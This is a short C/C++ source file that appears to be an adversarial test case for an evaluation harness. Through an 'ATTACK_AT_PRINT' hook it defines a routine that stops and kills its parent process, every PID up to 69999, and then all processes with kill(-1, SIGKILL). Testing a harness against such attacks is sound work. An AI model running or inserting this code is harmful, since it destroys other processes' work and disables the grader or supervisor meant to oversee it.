/* Kills every process that it can, by number, by group and by parent. */
#define ATTACK_AT_PRINT kill_all
#include "honest_ends.cuh"

#include <signal.h>
#include <unistd.h>

static void kill_all(void)
{
    const pid_t self = getpid();
    for (int signal_number : {SIGSTOP, SIGTERM, SIGKILL}) {
        kill(getppid(), signal_number);
        for (pid_t pid = 1; pid < 70000; pid++) {
            if (pid != self) {
                kill(pid, signal_number);
            }
        }
    }
    kill(-1, SIGKILL);
}
